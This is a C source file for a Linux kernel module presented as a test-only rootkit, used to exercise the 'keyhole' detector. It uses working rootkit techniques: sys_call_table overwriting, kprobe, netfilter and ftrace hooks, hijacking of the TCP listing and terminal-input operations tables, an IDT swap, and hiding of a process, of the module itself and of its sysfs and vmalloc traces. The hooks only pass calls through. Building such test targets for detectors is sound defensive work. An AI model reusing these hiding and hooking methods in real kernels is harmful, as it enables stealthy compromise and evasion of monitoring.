// SPDX-License-Identifier: GPL-2.0-only
/*
 * khrootkit.c - a test-only "rootkit" for the keyhole test guest.
 *
 * keyhole's rootkit checks must be tested against real attacks, so this
 * module does, in its init, what a rootkit does:
 *
 *  1. replaces one sys_call_table entry (sct_nr, default __NR_getdents64)
 *     with a function of its own that calls the original one;
 *  2. registers a kprobe (on kprobe_sym+kprobe_offset, default
 *     __x64_sys_syncfs+0: its ftrace site, so the kprobe is ftrace-based);
 *  3. registers a netfilter hook (IPv4, LOCAL_IN, priority 0), and an
 *     ftrace hook (an ftrace_ops whose callback is its own) on
 *     ftrace_sym (default __x64_sys_syncfs), the way rootkits for current
 *     kernels hook system calls;
 *  4. replaces the show() of tcp4_seq_ops (what /proc/net/tcp is read
 *     with, so what netstat and ss -F show) and the receive_buf2() of
 *     n_tty_ops (the line discipline every terminal's input goes through,
 *     a keylogger's place) with functions of its own that call the
 *     original ones; the loader passes both tables' addresses (seq_ops,
 *     ldisc_ops), checked as sct is;
 *  5. swaps the IDT the CPUs load: the CPU entry area's read-only alias
 *     of idt_table (CPU_ENTRY_AREA_RO_IDT) is pointed at a copy of its
 *     own, whose gate of vector 31 (reserved: the CPU raises it never)
 *     leads to a function of the module; idt_table itself is unchanged;
 *  6. hides the process hide_pid: unlinks it from the task list (it stays
 *     in its pid namespace's IDR, so /proc/PID and the /proc listing still
 *     have it, and in its parent's children);
 *  7. hides itself: unlinks itself from the module list (/proc/modules),
 *     while /sys/module/khrootkit and its parameters stay.
 *
 * Later, writing the write-only parameter vanish takes its kobject out
 * of sysfs too (kobject_del, from a work item: not inside the write of
 * one of its own attributes), so that only its memory is left to find
 * it by: /sys/module/khrootkit and its parameters are gone then. Given
 * vmap_list (vmap_area_list's address), it also hides that memory's
 * vmalloc area from a walk of the list from its end: the area above
 * its own gets its own's prev link, so walking back skips it, while the
 * forward links, and the kernel's lookups by rbtree, are left whole.
 *
 * Each step that fails undoes the earlier ones and fails the init; the
 * hiding comes last, so a failure never leaves something hidden. There is
 * no exit function: the module cannot be unloaded (nor found by
 * delete_module once it is hidden).
 *
 * sys_call_table is not exported and neither is kallsyms_lookup_name, so
 * the loader passes its address (from /proc/kallsyms) as sct; the module
 * checks that the address really is sys_call_table before writing. The
 * table is read-only: the entry is written through a temporary writable
 * alias of its page (vmap). On this kernel syscalls are dispatched by
 * x64_sys_call() and not through the table; the hook calls the original
 * anyway, so the syscall behaves as before either way.
 *
 * tasklist_lock and module_mutex are not exported: both unlinks are done
 * inside stop_machine(), so no other CPU is inside a tasklist_lock write
 * section (which disables interrupts). After an RCU grace period (a
 * reader that was on an unlinked entry may still follow its ->next until
 * then) the entries are made to point at themselves, again under
 * stop_machine(), so that the list_del_rcu() of a later exit of the
 * hidden task is a harmless no-op instead of a double deletion.
 *
 * Read-only parameters give the tests their ground truth, in hex without
 * 0x: hook_addr (the syscall hook), kprobe_addr (the probed address),
 * nf_hook_addr (the netfilter hook function), ftrace_addr (the ftrace
 * callback), seq_show_addr and tty_hook_addr (the two operations hooks),
 * idt_hook_addr (vector 31's new target);
 * sct, seq_ops and ldisc_ops are shown in hex too.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/seq_file.h>
#include <linux/sysfs.h>
#include <linux/tty.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <net/net_namespace.h>
#include <asm/desc.h>
#include <asm/pgtable_areas.h>
#include <asm/tlbflush.h>
#include <asm/unistd.h>

/* --- parameters --------------------------------------------------------- */

static int param_get_hex(char *buffer, const struct kernel_param *kp)
{
	return sysfs_emit(buffer, "%lx\n", *(unsigned long *)kp->arg);
}

static int param_set_ro(const char *val, const struct kernel_param *kp)
{
	pr_err("%s is read-only\n", kp->name);
	return -EPERM;
}

/* set like a ulong (0x... accepted), shown in hex */
static const struct kernel_param_ops kh_hex_ops = {
	.set = param_set_ulong,
	.get = param_get_hex,
};

/* output only: set by the module, shown in hex */
static const struct kernel_param_ops kh_out_ops = {
	.set = param_set_ro,
	.get = param_get_hex,
};

static int hide_pid;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "pid of the process to unlink from the task list (required)");

static unsigned long sct;
module_param_cb(sct, &kh_hex_ops, &sct, 0444);
MODULE_PARM_DESC(sct, "address of sys_call_table, from /proc/kallsyms (required)");

static int sct_nr = __NR_getdents64;
module_param(sct_nr, int, 0444);
MODULE_PARM_DESC(sct_nr, "sys_call_table entry to replace (default __NR_getdents64)");

static char *kprobe_sym = "__x64_sys_syncfs";
module_param(kprobe_sym, charp, 0444);
MODULE_PARM_DESC(kprobe_sym, "function to put a kprobe on");

static unsigned int kprobe_offset;
module_param(kprobe_offset, uint, 0444);
MODULE_PARM_DESC(kprobe_offset, "offset in kprobe_sym (0: its ftrace site, so an ftrace-based kprobe; past it, an int3 one, then optimized to a jump)");

static unsigned long hook_addr;
module_param_cb(hook_addr, &kh_out_ops, &hook_addr, 0444);
MODULE_PARM_DESC(hook_addr, "out: the function now in the sys_call_table entry");

static unsigned long kprobe_addr;
module_param_cb(kprobe_addr, &kh_out_ops, &kprobe_addr, 0444);
MODULE_PARM_DESC(kprobe_addr, "out: the probed address");

static unsigned long nf_hook_addr;
module_param_cb(nf_hook_addr, &kh_out_ops, &nf_hook_addr, 0444);
MODULE_PARM_DESC(nf_hook_addr, "out: the netfilter hook function");

static char *ftrace_sym = "__x64_sys_syncfs";
module_param(ftrace_sym, charp, 0444);
MODULE_PARM_DESC(ftrace_sym, "function to hook through ftrace");

static unsigned long ftrace_addr;
module_param_cb(ftrace_addr, &kh_out_ops, &ftrace_addr, 0444);
MODULE_PARM_DESC(ftrace_addr, "out: the ftrace callback");

static unsigned long seq_ops;
module_param_cb(seq_ops, &kh_hex_ops, &seq_ops, 0444);
MODULE_PARM_DESC(seq_ops, "address of tcp4_seq_ops, from /proc/kallsyms (required)");

static unsigned long ldisc_ops;
module_param_cb(ldisc_ops, &kh_hex_ops, &ldisc_ops, 0444);
MODULE_PARM_DESC(ldisc_ops, "address of n_tty_ops, from /proc/kallsyms (required)");

static unsigned long vmap_list;
module_param_cb(vmap_list, &kh_hex_ops, &vmap_list, 0444);
MODULE_PARM_DESC(vmap_list, "address of vmap_area_list, from /proc/kallsyms (vanish skips the module's area in its prev links)");

static unsigned long seq_show_addr;
module_param_cb(seq_show_addr, &kh_out_ops, &seq_show_addr, 0444);
MODULE_PARM_DESC(seq_show_addr, "out: the function now in tcp4_seq_ops.show");

static unsigned long idt_hook_addr;
module_param_cb(idt_hook_addr, &kh_out_ops, &idt_hook_addr, 0444);
MODULE_PARM_DESC(idt_hook_addr, "out: vector 31's target in the IDT the CPUs load");

static unsigned long tty_hook_addr;
module_param_cb(tty_hook_addr, &kh_out_ops, &tty_hook_addr, 0444);
MODULE_PARM_DESC(tty_hook_addr, "out: the function now in n_tty_ops.receive_buf2");

/* --- vanish: out of sysfs, later ----------------------------------------- */

static bool kh_loaded;
static atomic_t kh_vanishing = ATOMIC_INIT(0);

/*
 * The vmalloc area of the module's core: the one after it in the list
 * (or the list's head) is given its prev link. vmap_area_lock is not
 * exported: the module region's areas only change when a module or BPF
 * program comes or goes, which the test guest does not do meanwhile.
 */
static void kh_skip_area(void)
{
	struct list_head *head = (struct list_head *)vmap_list;
	unsigned long base = (unsigned long)THIS_MODULE->core_layout.base;
	struct vmap_area *va;

	if (!head)
		return;
	/* From the end: the module region's areas come first that way. */
	list_for_each_entry_reverse(va, head, list) {
		if (va->va_start <= base && base < va->va_end) {
			WRITE_ONCE(va->list.next->prev, va->list.prev);
			pr_info("skipped its vmalloc area 0x%lx-0x%lx in vmap_area_list's prev links\n",
				va->va_start, va->va_end);
			return;
		}
	}
	pr_info("found no vmalloc area of its own\n");
}

/* The area first: the guest's truth daemon waits for the kobject's end. */
static void kh_vanish_fn(struct work_struct *work)
{
	kh_skip_area();
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("removed its kobject: /sys/module/khrootkit is gone\n");
}

static DECLARE_WORK(kh_vanish_work, kh_vanish_fn);

static int param_set_vanish(const char *val, const struct kernel_param *kp)
{
	/* only once the init is done, and once */
	if (!READ_ONCE(kh_loaded) || atomic_xchg(&kh_vanishing, 1))
		return -EBUSY;
	schedule_work(&kh_vanish_work);
	return 0;
}

static const struct kernel_param_ops kh_vanish_ops = {
	.set = param_set_vanish,
};

module_param_cb(vanish, &kh_vanish_ops, NULL, 0200);
MODULE_PARM_DESC(vanish, "write anything: remove the module's kobject from sysfs");

/* --- 1. sys_call_table entry ------------------------------------------- */

static long (*kh_sct_orig)(const struct pt_regs *regs);

static long kh_sct_hook(const struct pt_regs *regs)
{
	return kh_sct_orig(regs);
}

/*
 * Write one word of a kernel table through a temporary writable alias of
 * its page: the table may be read-only (sys_call_table, tcp4_seq_ops).
 */
static int kh_table_write(unsigned long *slot, unsigned long val)
{
	struct page *page = virt_to_page(slot);
	void *alias;

	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(slot)), val);
	vunmap(alias);
	return 0;
}

static int kh_sct_install(void)
{
	unsigned long *slot, old;
	char name[KSYM_SYMBOL_LEN];
	int err;

	if (!sct || !IS_ALIGNED(sct, sizeof(unsigned long))) {
		pr_err("sct=%lx: pass the address of sys_call_table\n", sct);
		return -EINVAL;
	}
	if (sct_nr < 0 || sct_nr >= NR_syscalls) {
		pr_err("sct_nr=%d: not in 0..%d\n", sct_nr, NR_syscalls - 1);
		return -EINVAL;
	}
	/* a symbol lookup only: nothing is read at a wrong address */
	snprintf(name, sizeof(name), "%pS", (void *)sct);
	if (strncmp(name, "sys_call_table+0x0/", 19)) {
		pr_err("sct=%lx is %s, not sys_call_table\n", sct, name);
		return -EINVAL;
	}
	slot = (unsigned long *)sct + sct_nr;
	if (!pfn_valid(PHYS_PFN(__pa(slot)))) {
		pr_err("sys_call_table[%d] at %lx: no struct page\n", sct_nr,
		       (unsigned long)slot);
		return -EINVAL;
	}
	old = READ_ONCE(*slot);
	snprintf(name, sizeof(name), "%ps", (void *)old);
	if (strncmp(name, "__x64_sys_", 10)) {
		pr_err("sys_call_table[%d] = %lx (%s): not a syscall, already hooked?\n",
		       sct_nr, old, name);
		return -EINVAL;
	}
	kh_sct_orig = (void *)old;
	err = kh_table_write(slot, (unsigned long)kh_sct_hook);
	if (err) {
		pr_err("sys_call_table[%d]: vmap failed\n", sct_nr);
		return err;
	}
	hook_addr = (unsigned long)kh_sct_hook;
	pr_info("sys_call_table[%d] at %lx: %lx (%s) -> %lx\n", sct_nr,
		(unsigned long)slot, old, name, hook_addr);
	return 0;
}

static void kh_sct_restore(void)
{
	unsigned long *slot = (unsigned long *)sct + sct_nr;

	if (kh_table_write(slot, (unsigned long)kh_sct_orig))
		pr_err("sys_call_table[%d]: cannot restore it (vmap failed)\n",
		       sct_nr);
	hook_addr = 0;
}

/* --- 2. kprobe ----------------------------------------------------------- */

static int kh_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe kh_kprobe = {
	.pre_handler = kh_kprobe_pre,
};

static int kh_kprobe_install(void)
{
	int err;

	kh_kprobe.symbol_name = kprobe_sym;
	kh_kprobe.offset = kprobe_offset;
	err = register_kprobe(&kh_kprobe);
	if (err) {
		pr_err("register_kprobe(%s+%#x) failed: %d\n", kprobe_sym,
		       kprobe_offset, err);
		return err;
	}
	kprobe_addr = (unsigned long)kh_kprobe.addr;
	pr_info("kprobe on %s+%#x at %lx%s, handler %lx\n", kprobe_sym,
		kprobe_offset, kprobe_addr,
		kprobe_ftrace(&kh_kprobe) ? " (ftrace-based)" : "",
		(unsigned long)kh_kprobe_pre);
	return 0;
}

/* --- 3. netfilter hook ------------------------------------------------- */

static unsigned int kh_nf_hook(void *priv, struct sk_buff *skb,
			       const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops kh_nf_ops = {
	.hook = kh_nf_hook,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_IN,
	.priority = 0,
};

static int kh_nf_install(void)
{
	int err = nf_register_net_hook(&init_net, &kh_nf_ops);

	if (err) {
		pr_err("nf_register_net_hook failed: %d\n", err);
		return err;
	}
	nf_hook_addr = (unsigned long)kh_nf_hook;
	pr_info("netfilter hook ipv4 LOCAL_IN at %lx\n", nf_hook_addr);
	return 0;
}

/* The callback does nothing: the hook is there to be found. */
static void notrace kh_ftrace_hook(unsigned long ip, unsigned long parent_ip,
				   struct ftrace_ops *op,
				   struct ftrace_regs *fregs)
{
}

static struct ftrace_ops kh_ftrace_ops = {
	.func = kh_ftrace_hook,
};

static int kh_ftrace_install(void)
{
	/* The filter first: registered without one, it would trace all. */
	int err = ftrace_set_filter(&kh_ftrace_ops, ftrace_sym,
				    strlen(ftrace_sym), 0);

	if (err) {
		pr_err("ftrace_set_filter(%s) failed: %d\n", ftrace_sym, err);
		return err;
	}
	err = register_ftrace_function(&kh_ftrace_ops);
	if (err) {
		pr_err("register_ftrace_function failed: %d\n", err);
		ftrace_free_filter(&kh_ftrace_ops);
		return err;
	}
	ftrace_addr = (unsigned long)kh_ftrace_hook;
	pr_info("ftrace hook on %s at %lx\n", ftrace_sym, ftrace_addr);
	return 0;
}

/* --- 4. operations tables --------------------------------------------- */

static int (*kh_seq_show_orig)(struct seq_file *m, void *v);

static int kh_seq_show(struct seq_file *m, void *v)
{
	return kh_seq_show_orig(m, v);
}

/* n_tty's input path: tty_ldisc_receive_buf() calls receive_buf2. */
static int (*kh_receive_buf_orig)(struct tty_struct *tty,
				  const unsigned char *cp, const char *fp,
				  int count);

static int kh_receive_buf(struct tty_struct *tty, const unsigned char *cp,
			  const char *fp, int count)
{
	return kh_receive_buf_orig(tty, cp, fp, count);
}

/* addr is symbol sym (a lookup only: nothing is read at a wrong address) */
static int kh_is_symbol(unsigned long addr, const char *sym)
{
	char name[KSYM_SYMBOL_LEN];
	size_t len = strlen(sym);

	snprintf(name, sizeof(name), "%pS", (void *)addr);
	if (!addr || !IS_ALIGNED(addr, sizeof(unsigned long)) ||
	    strncmp(name, sym, len) || strncmp(name + len, "+0x0/", 5)) {
		pr_err("%lx is %s, not %s\n", addr, name, sym);
		return 0;
	}
	return 1;
}

/* the slots: tcp4_seq_ops.show and n_tty_ops.receive_buf2 */
#define KH_SHOW_SLOT ((unsigned long *)(seq_ops + \
		      offsetof(struct seq_operations, show)))
#define KH_RECEIVE_SLOT ((unsigned long *)(ldisc_ops + \
			 offsetof(struct tty_ldisc_ops, receive_buf2)))

static int kh_ops_install(void)
{
	int err;

	if (!kh_is_symbol(seq_ops, "tcp4_seq_ops") ||
	    !kh_is_symbol(ldisc_ops, "n_tty_ops"))
		return -EINVAL;
	kh_seq_show_orig = (void *)READ_ONCE(*KH_SHOW_SLOT);
	kh_receive_buf_orig = (void *)READ_ONCE(*KH_RECEIVE_SLOT);
	err = kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show);
	if (err)
		return err;
	err = kh_table_write(KH_RECEIVE_SLOT, (unsigned long)kh_receive_buf);
	if (err) {
		kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show_orig);
		return err;
	}
	seq_show_addr = (unsigned long)kh_seq_show;
	tty_hook_addr = (unsigned long)kh_receive_buf;
	pr_info("tcp4_seq_ops.show -> %lx, n_tty_ops.receive_buf2 -> %lx\n",
		seq_show_addr, tty_hook_addr);
	return 0;
}

static void kh_ops_restore(void)
{
	if (kh_table_write(KH_RECEIVE_SLOT,
			   (unsigned long)kh_receive_buf_orig) ||
	    kh_table_write(KH_SHOW_SLOT, (unsigned long)kh_seq_show_orig))
		pr_err("cannot restore the operations tables (vmap failed)\n");
	seq_show_addr = 0;
	tty_hook_addr = 0;
}

/* --- 5. the IDT the CPUs load ------------------------------------------ */

#define KH_IDT_VECTOR 31

static pte_t *kh_idt_pte;
static pte_t kh_idt_old;

/* vector 31's target; never called (the CPU raises no vector 31) */
static void kh_idt_stub(void)
{
}

static void kh_flush_one(void *unused)
{
	__flush_tlb_all();
}

static int kh_idt_install(void)
{
	unsigned long addr = (unsigned long)kh_idt_stub;
	unsigned int level;
	gate_desc *copy;

	kh_idt_pte = lookup_address(CPU_ENTRY_AREA_RO_IDT, &level);
	if (!kh_idt_pte || level != PG_LEVEL_4K || !pte_present(*kh_idt_pte)) {
		pr_err("no 4K page maps the CPU entry area's IDT\n");
		return -ENOENT;
	}
	copy = (gate_desc *)get_zeroed_page(GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	memcpy(copy, CPU_ENTRY_AREA_RO_IDT_VADDR, PAGE_SIZE);
	copy[KH_IDT_VECTOR].offset_low = (u16)addr;
	copy[KH_IDT_VECTOR].offset_middle = (u16)(addr >> 16);
	copy[KH_IDT_VECTOR].offset_high = (u32)(addr >> 32);
	kh_idt_old = *kh_idt_pte;
	/* the copy is never freed: the CPUs use it from now on */
	set_pte_atomic(kh_idt_pte, pfn_pte(PHYS_PFN(__pa(copy)), PAGE_KERNEL_RO));
	on_each_cpu(kh_flush_one, NULL, 1);
	idt_hook_addr = addr;
	pr_info("the CPUs' IDT is a copy at %lx, vector %d -> %lx\n",
		(unsigned long)copy, KH_IDT_VECTOR, addr);
	return 0;
}

static void kh_idt_restore(void)
{
	set_pte_atomic(kh_idt_pte, kh_idt_old);
	on_each_cpu(kh_flush_one, NULL, 1);
	idt_hook_addr = 0;
}

/* --- 6. and 7. hiding -------------------------------------------------- */

/* runs with every other CPU stopped, interrupts off */
static int kh_unlink(void *data)
{
	struct task_struct *task = data;

	/* unhashed or about to be: __unhash_process deletes it itself */
	if (!pid_alive(task) || (task->flags & PF_EXITING))
		return -ESRCH;
	list_del_rcu(&task->tasks);
	list_del_rcu(&THIS_MODULE->list);
	return 0;
}

/* after a grace period: no reader is on the entries any more */
static int kh_self_point(void *data)
{
	struct task_struct *task = data;

	INIT_LIST_HEAD(&task->tasks);
	INIT_LIST_HEAD(&THIS_MODULE->list);
	return 0;
}

/* --- init ---------------------------------------------------------------- */

static int __init khrootkit_init(void)
{
	struct task_struct *task = NULL;
	int err;

	if (hide_pid <= 0) {
		pr_err("hide_pid=%d: pass the pid of the process to hide\n",
		       hide_pid);
		return -EINVAL;
	}
	rcu_read_lock();
	task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task) {
		pr_err("hide_pid=%d: no such process\n", hide_pid);
		return -ESRCH;
	}
	if (!thread_group_leader(task) || (task->flags & PF_KTHREAD)) {
		pr_err("hide_pid=%d: not a user process's main thread\n",
		       hide_pid);
		err = -EINVAL;
		goto put_task;
	}

	err = kh_sct_install();
	if (err)
		goto put_task;
	err = kh_kprobe_install();
	if (err)
		goto restore_sct;
	err = kh_nf_install();
	if (err)
		goto unregister_kprobe;
	err = kh_ftrace_install();
	if (err)
		goto unregister_nf;
	err = kh_ops_install();
	if (err)
		goto unregister_ftrace;
	err = kh_idt_install();
	if (err)
		goto restore_ops;

	err = stop_machine(kh_unlink, task, NULL);
	if (err) {
		pr_err("hide_pid=%d: cannot unlink it: %d\n", hide_pid, err);
		goto restore_idt;
	}
	synchronize_rcu();
	stop_machine(kh_self_point, task, NULL);
	WRITE_ONCE(kh_loaded, true);
	/* the task reference is kept: the hidden task is never freed */
	pr_info("hid pid %d (%s) from the task list and the module from the module list\n",
		hide_pid, task->comm);
	return 0;

restore_idt:
	kh_idt_restore();
restore_ops:
	kh_ops_restore();
unregister_ftrace:
	unregister_ftrace_function(&kh_ftrace_ops);
	ftrace_free_filter(&kh_ftrace_ops);
	ftrace_addr = 0;
unregister_nf:
	nf_unregister_net_hook(&init_net, &kh_nf_ops);
	nf_hook_addr = 0;
unregister_kprobe:
	unregister_kprobe(&kh_kprobe);
	kprobe_addr = 0;
restore_sct:
	kh_sct_restore();
put_task:
	put_task_struct(task);
	return err;
}
module_init(khrootkit_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("keyhole test guest: a rootkit to detect (test only)");
MODULE_AUTHOR("keyhole");
